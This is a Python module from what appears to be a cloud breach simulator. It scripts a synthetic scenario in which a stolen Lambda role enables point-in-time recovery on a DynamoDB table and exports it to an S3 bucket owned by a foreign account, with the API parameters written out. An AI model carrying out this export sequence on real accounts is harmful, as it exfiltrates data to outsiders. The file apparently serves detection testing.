"""A DynamoDB table exported from its point-in-time recovery straight into a foreign bucket."""

from __future__ import annotations

from typing import TYPE_CHECKING

from exclave.model import Cloud, Kind
from exclave.simulate.aws import ids
from exclave.simulate.breach import Breach

if TYPE_CHECKING:
    from exclave.simulate.aws.scene import Scene

_AGENT = "Boto3/1.35.36 md/Botocore#1.35.36 ua/2.0 os/linux#5.10.225 lang/python#3.12.5 exec-env/AWS_Lambda"


def tell(scene: Scene) -> None:
    """A function's stolen role → recovery switched on → export to a bucket whose owner it has to name."""
    thief = scene.session("orders-handler", "orders-handler", _AGENT)
    table, outside = scene.victim.databases[0], f"export-{scene.rng.getrandbits(40):010x}"
    arn = f"arn:aws:dynamodb:{scene.region}:{scene.victim.id}:table/{table}"
    scene.look(
        thief,
        ("sts", "GetCallerIdentity", None),
        ("dynamodb", "ListTables", {"limit": 100}),
        ("dynamodb", "DescribeContinuousBackups", {"tableName": table}),
    )
    scene.call(
        thief,
        "dynamodb",
        "UpdateContinuousBackups",
        {
            "tableName": table,
            "pointInTimeRecoverySpecification": {"pointInTimeRecoveryEnabled": True},
        },
        {"continuousBackupsDescription": {"continuousBackupsStatus": "ENABLED"}},
        after=9,
    )
    scene.thing("dynamodb-table", table, name=table)
    export = f"{arn}/export/{scene.rng.getrandbits(52):014d}-{scene.rng.getrandbits(32):08x}"
    scene.call(
        thief,
        "dynamodb",
        "ExportTableToPointInTime",
        {
            "tableArn": arn,
            "s3Bucket": outside,
            "s3BucketOwner": scene.outsider,
            "exportFormat": "DYNAMODB_JSON",
            "clientToken": ids.uuid(scene.rng),
        },
        {
            "exportDescription": {
                "exportArn": export,
                "exportStatus": "IN_PROGRESS",
                "tableArn": arn,
                "s3Bucket": outside,
                "s3BucketOwner": scene.outsider,
                "exportFormat": "DYNAMODB_JSON",
            }
        },
        after=20,
        phase="take",
    )
    scene.offered_to(Kind.ACCOUNT, scene.outsider)
    scene.story.taken = True
    scene.look(thief, ("dynamodb", "DescribeExport", {"exportArn": export}))


BREACH = Breach(
    name="table-export",
    title="DynamoDB table exported into a foreign bucket",
    cloud=Cloud.AWS,
    description="With the role of a function an intruder switches on point-in-time recovery for a table "
    "and exports it into a bucket that belongs to another account.",
    hours=2,
    tell=tell,
)
